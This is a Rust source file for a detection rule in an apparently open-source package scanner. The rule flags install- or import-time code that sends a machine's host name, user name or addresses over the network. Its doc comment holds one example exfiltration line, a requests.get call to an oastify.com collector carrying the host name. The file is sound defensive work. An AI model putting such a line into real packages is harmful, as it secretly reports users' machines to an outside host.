//! # Facts about machine and user leave over the network
//!
//! ## What it finds
//! Host name, login, platform or network addresses reach a network sink in code that runs at install or import time.
//!
//! ## Why it matters
//! Dependency-confusion probes and first-stage malware report where they landed before anything else: a quarter of all
//! malicious PyPI families collect such facts.
//!
//! ## Example
//! ```python
//! requests.get("https://x.oastify.com/?h=" + socket.gethostname())
//! ```
//!
//! ## What to do
//! Do not install. If it was installed, the sender knows your machine's name and user; look for a second stage.
//!
//! ## When it is wrong
//! Telemetry of honest tools does this too, and should ask first.
use foretaste_engine::prelude::*;

use crate::code;
use crate::indicators::{self, Destination};

declare_rule! {
    HostInfoToNetwork,
    id: "host-info-to-network",
    title: "reports the machine it runs on",
    group: Chain,
    severity: High,
    confidence: High,
    needs: [Code],
    tags: ["T1082", "T1033", "T1041", "AV-001"],
    since: "0.1.0",
}

impl ChainRule for HostInfoToNetwork {
    fn judge(&self, chain: &Chain<'_>, _scene: &Scene<'_>) -> Option<Finding> {
        let (source, sink) = (chain.source()?, chain.sink()?);
        let host = matches!(
            source.capability,
            Capability::HostInfo | Capability::UserInfo | Capability::HostLocation
        );
        let context = chain.context();
        if !host || !sink.capability.is_network_sink() || context > ExecutionContext::Import {
            return None;
        }
        // looking up the machine's own addresses tells nobody anything
        let stays_local = |name: &str| name.ends_with(".local") || !name.contains('.');
        if sink.capability == Capability::NetworkDns
            && sink.constant.as_deref().is_none_or(stays_local)
        {
            return None;
        }
        // the working folder completes relative paths; only while installing does it tell where
        let folder = source.api.contains("getcwd");
        if folder && context > ExecutionContext::Start {
            return None;
        }
        if sink
            .constant
            .as_deref()
            .is_some_and(indicators::is_loopback)
        {
            return None;
        }
        let what = match source.capability {
            Capability::UserInfo => "the user's name",
            Capability::HostLocation => "the machine's address",
            _ => "facts about the machine",
        };
        let destination = sink.constant.as_deref().and_then(indicators::classify);
        let mut finding = self
            .finding(format!(
                "sends {what} over the network {}",
                context.phrase()
            ))
            .context(context);
        if destination.is_some_and(Destination::collects)
            || (context == ExecutionContext::Install && chain.flow.link == FlowLink::Data)
        {
            // nothing that is being installed has a reason to report where
            finding = finding.severity(Severity::Critical);
        }
        if chain.flow.link == FlowLink::Scope {
            finding = finding.confidence(Confidence::Medium);
        }
        if finding.severity == Severity::High && code::asks_first(chain) {
            finding = finding.severity(Severity::Medium);
        }
        finding.evidence = chain.evidence(|step| step.api.to_string());
        Some(finding)
    }
}
